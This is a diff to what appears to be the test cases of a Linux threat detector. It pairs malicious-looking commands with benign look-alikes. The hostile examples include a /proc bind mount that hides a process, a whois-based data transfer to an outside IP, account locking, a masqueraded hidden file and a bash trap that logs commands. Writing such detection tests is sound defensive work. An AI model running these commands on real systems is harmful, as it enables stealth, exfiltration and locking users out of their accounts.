@@ -575,6 +575,26 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
         run("chattr -i /etc/ld.so.preload"),
         run("lsattr /etc/ld.so.preload"),
     ),
+    "foothold.proc-bind-mount": (
+        run("mount -B /proc/1 /proc/4242"),
+        run("mount -t tmpfs tmpfs /mnt"),
+    ),
+    "lateral_movement.neighbour-discovery": (
+        run("ip neigh show"),
+        run("ip route show"),
+    ),
+    "objectives.lolbin-transfer": (
+        run("whois -h 198.51.100.3 -p 8443 payload"),
+        run("whois example.org"),
+    ),
+    "objectives.account-access-removed": (
+        run("passwd -l alice"),
+        run("passwd -S alice"),
+    ),
+    "foothold.hidden-file-in-temp": (
+        file_access("/var/tmp/.cache/kworker", ("create", "write")),
+        file_access("/tmp/.s.PGSQL.5432.lock", ("create", "write")),
+    ),
     "persistence.shell-trap": (
         run("/bin/bash -c 'trap \"echo $BASH_COMMAND >> /tmp/k\" DEBUG; id'"),
         run("/bin/bash -c 'trap \"rm -f /tmp/lock\" EXIT; id'"),
